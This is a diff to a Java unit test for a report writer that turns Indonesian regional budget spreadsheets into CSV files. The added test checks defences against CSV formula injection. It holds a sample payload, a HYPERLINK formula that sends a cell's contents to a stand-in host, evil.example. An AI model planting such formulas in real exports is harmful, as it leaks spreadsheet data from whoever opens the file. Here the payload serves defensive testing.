@@ -42,6 +42,7 @@ import org.junit.jupiter.api.io.TempDir;
 class ReportWriterTest {
 
     private static final IndoNumberParser PARSER = new IndoNumberParser(new GradeVocabulary(List.of("B", "WTP")));
+    private static final Path SAMPLES = Path.of("input-samples");
     private static final String XLSX = "kecamatan-sumber-harta/kinerja-anggaran-2023.xlsx";
     private static final String BROKEN = "kecamatan-sumber-harta/lkjip-2023-lampiran.xlsx";
     private static final String SHEET = "Realisasi Keuangan";
@@ -107,7 +108,8 @@ class ReportWriterTest {
 
     private static RunResult run() {
         return new RunResult(
-                List.of(new InputStatus(XLSX, "0a0e63149b3c", true, 1), new InputStatus(BROKEN, "", false, 0)),
+                List.of(new InputStatus(XLSX, SAMPLES.resolve(XLSX), "0a0e63149b3c", true, 1),
+                        new InputStatus(BROKEN, SAMPLES.resolve(BROKEN), "", false, 0)),
                 List.of(),
                 List.of(new CapaianResult(IKM, Arah.NAIK, Optional.of(new BigDecimal("94.52")), "Sangat Tinggi"),
                         new CapaianResult(SAKIP, Arah.NAIK, Optional.of(new BigDecimal("95.84")), "Sangat Tinggi")),
@@ -135,6 +137,25 @@ class ReportWriterTest {
         writer.write(run(), out, GENERATED);
 
         assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "capaian.csv", "tables.csv");
+    }
+
+    @Test
+    void textThatCouldRunAsAFormulaIsNeutralisedInEveryCsvButNumbersAreNot() throws IOException {
+        CapaianRecord injected = indicator(7, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")", "", "84",
+                "79,4", "94,05%");
+        BudgetLine dashed = programme(8, "- Belanja Pegawai", "241.647.000", "(5.000)", "");
+        Finding atSign = new Finding(new Location(XLSX, SHEET, 7, 5), Category.UNPARSEABLE_VALUE, "value.parse",
+                Severity.ERROR, Message.of("severity.error"), "@SUM(A1:A9)", "");
+        writer.write(new RunResult(List.of(), List.of(),
+                List.of(new CapaianResult(injected, Arah.NAIK, Optional.empty(), "")),
+                List.of(new BudgetResult(dashed, BudgetLevel.PROGRAM, Optional.empty())), List.of(atSign)), out,
+                GENERATED);
+
+        assertThat(csv("capaian.csv").get(1).get(CONTRACT_CAPAIAN.indexOf("indikator")))
+                .isEqualTo("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")");
+        assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("uraian"))).isEqualTo("'- Belanja Pegawai");
+        assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("realisasi"))).isEqualTo("-5000");
+        assertThat(csv("anomalies.csv").get(1).get(FINDING_FIELDS.indexOf("value"))).isEqualTo("'@SUM(A1:A9)");
     }
 
     @Test
